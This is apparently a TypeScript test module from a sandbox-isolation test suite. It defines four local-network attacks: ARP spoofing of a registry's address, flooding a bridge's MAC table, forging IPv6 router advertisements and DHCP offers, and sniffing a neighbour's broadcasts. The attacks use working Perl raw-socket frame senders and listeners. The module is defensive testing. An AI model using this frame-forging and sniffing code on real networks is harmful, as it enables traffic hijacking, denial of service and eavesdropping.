/** Class 16: frames that no router made: false answers of ARP, false routers, floods of the bridge, and listening to what is not meant for one. */
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { perl } from "../perl.ts";
import { onTheWire } from "../weakenings/network.ts";
import { bytesOf, framesOnWireOf, newMark } from "../wire.ts";

const falseAddress = "02dead00beef";
const broadcast = "ffffffffffff";
const floodFrames = 400;
/** The bridge also learns of sandboxes that start meanwhile. */
const learntMost = 100;

/** Sends each frame (hexadecimal; `RANDOM` is six bytes of its own every time) so many times out of every interface. */
const sender = String.raw`
my ($times, @frames) = @ARGV;
opendir(my $all, "/sys/class/net") or die;
for my $name (grep { !/^\.|^lo$/ } readdir $all) {
  open(my $file, "<", "/sys/class/net/$name/ifindex") or next;
  chomp(my $index = <$file>);
  socket(my $wire, 17, 3, 0) or die "no packet socket: $!\n";
  for (1 .. $times) { for my $frame (@frames) {
    my $bytes = $frame =~ s/RANDOM/sprintf "02%010x", int rand 2**40/er;
    send($wire, pack("H*", $bytes), 0, pack("SnlSCCa8", 17, 3, $index, 0, 0, 6, "")) and print "sent\n";
  } }
}`;

const earsOfAttacker = String.raw`
my ($seconds, $pattern) = @ARGV; my $heard = 0;
socket(my $wire, 17, 3, unpack("S", pack("n", 3))) or die "no packet socket: $!\n";
$SIG{ALRM} = sub { print "heard $heard\n"; exit };
alarm $seconds;
while (defined recv($wire, my $frame, 65536, 0)) { $heard++ if index($frame, pack("H*", $pattern)) >= 0 }
`;

/** ARP: "this address is mine", said to everybody. */
function falseAnswer(address: string, { to, of }: { to: string; of: string }): string {
  return `${broadcast}${falseAddress}0806${"0001080006040002"}${falseAddress}${bytesOf(address)}${of}${bytesOf(to)}`;
}

const attacks: readonly Attack[] = [
  {
    nr: "16a",
    name: "claim the registry's address (ARP)",
    expected: "the neighbour still knows the registry's own address",
    weakened: onTheWire,
    isShort: true,
    async attempt({ attacker, victim, patience }) {
      const registry = (await victim.outside("printenv REGISTRY_IP")).stdout;
      const known = async () =>
        (await victim.outside(`ip neigh show ${registry} dev eth0 | grep -o 'lladdr [^ ]*'`)).stdout;
      await victim.outside(`ip neigh flush dev eth0; bash -c 'exec 3<> /dev/tcp/${registry}/5000'; sleep 1.5`);
      const before = await known();
      if (!before) throw new Error("the neighbour does not know the registry");
      const claim = falseAnswer(registry, { to: victim.address, of: falseAddress });
      const { stdout } = await attacker.root(perl(sender, 3, claim));
      await pause(200 * patience);
      const after = await known();
      await victim.outside("ip neigh flush dev eth0");
      if (!stdout.includes("sent")) throw new Error("nothing could be sent");
      return { succeeded: after !== before, observed: `before ${before}, after ${after}` };
    },
  },
  {
    nr: "16b",
    name: "fill the bridge's memory with senders",
    expected: `the bridge learns less than ${learntMost} of ${floodFrames}`,
    weakened: onTheWire,
    async attempt({ attacker, host }) {
      const known = async () => Number((await host("bridge fdb show | wc -l")).stdout);
      const before = await known();
      await attacker.root(perl(sender, floodFrames, `${broadcast}RANDOM88b5${newMark()}`));
      const learnt = (await known()) - before;
      return { succeeded: learnt >= learntMost, observed: `the bridge learnt ${learnt} senders` };
    },
  },
  {
    nr: "16c",
    name: "advertise oneself as router and DHCP server",
    expected: "nothing reaches the neighbour's wire",
    weakened: onTheWire,
    async attempt(stage) {
      const mark = newMark();
      const advertisement = `333300000001${falseAddress}86dd6000000000183aff${"fe80".padEnd(32, "0")}ff02${"1".padStart(28, "0")}8600${"0".repeat(28)}${mark}`;
      const offer = `${broadcast}${falseAddress}08004500003000000000401100000a000002ffffffff00430044001c0000${mark}`;
      const frames = await framesOnWireOf(stage.victim, stage, {
        pattern: mark,
        attack: () => stage.attacker.root(perl(sender, 2, advertisement, offer)),
      });
      return { succeeded: frames > 0, observed: `${frames} frames on the neighbour's wire` };
    },
  },
  {
    nr: "16d",
    name: "listen to the neighbour",
    expected: "nothing of the neighbour's is heard",
    weakened: onTheWire,
    async attempt({ attacker, victim, patience }) {
      const mark = newMark();
      const listening = attacker.root(perl(earsOfAttacker, 4 * patience, mark));
      await pause(1_500 * patience);
      // What everybody on the same wire would hear.
      const call = `printf '${mark.replace(/../g, "\\x$&")}' | socat -u - UDP4-DATAGRAM:255.255.255.255:9,broadcast`;
      const { exitCode, stderr } = await victim.outside(`for n in 1 2 3; do ${call} || exit; done`);
      if (exitCode !== 0) throw new Error(`the neighbour could not call: ${stderr}`);
      const { stdout } = await listening;
      if (!stdout.startsWith("heard")) throw new Error(`nobody listened: ${stdout}`);
      return { succeeded: stdout !== "heard 0", observed: `${stdout} of 3` };
    },
  },
];
export default attacks;
